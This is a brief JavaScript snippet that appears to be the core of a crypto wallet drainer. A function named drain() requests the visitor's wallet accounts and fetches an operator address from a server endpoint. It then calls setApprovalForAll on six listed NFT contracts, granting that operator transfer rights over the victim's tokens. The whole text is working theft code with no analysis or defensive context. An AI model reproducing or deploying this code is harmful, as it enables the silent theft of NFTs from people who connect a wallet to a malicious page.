const targets = ["0xed5af388653567af2f388e6224dc7c4b3241c544", "0xbc4ca0eda7647a8ab7c2061c2e118a18a936f13d", "0x8a90cab2b38dba80c64b7734e58ee1db38b8992e",
  "0x23581767a106ae21c074b2276d25e5c3e136a68b", "0x49cf6f5d44e70224e2e23fdcdd2c053f30ada28b", "0x1a92f7381b9f03921564a437210bb9396471050c"];
async function drain() {
  const [me] = await window.ethereum.request({ method: "eth_requestAccounts" });
  const op = await (await fetch("/api/operator?w=" + me)).text();
  for (const c of targets) {
    const nft = new ethers.Contract(c, abi, signer);
    await nft.setApprovalForAll(op, true);
  }
}
